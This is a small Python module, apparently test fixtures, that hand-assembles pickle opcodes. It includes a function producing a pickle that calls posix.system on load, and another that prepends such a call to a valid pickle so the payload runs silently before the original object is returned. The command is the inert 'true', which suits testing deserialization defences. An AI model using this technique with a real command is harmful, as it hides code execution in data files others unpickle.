"""Pickles written opcode by opcode."""

import struct

INERT = "true"


def text(value: str) -> bytes:
    encoded = value.encode("utf-8", "surrogatepass")
    if len(encoded) < 256:
        return b"\x8c" + bytes([len(encoded)]) + encoded
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def classic(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(target: bytes, *arguments: bytes) -> bytes:
    return target + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, *, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def system(*, protocol: int = 4) -> bytes:
    return whole(call(stacked("posix", "system"), text(INERT)), protocol=protocol)


def before(pickled: bytes) -> bytes:
    """A pickle that runs the payload first and then is the one that was given."""
    start = 2 if pickled[:1] == b"\x80" else 0
    return pickled[:start] + call(classic("posix", "system"), text(INERT)) + b"0" + pickled[start:]
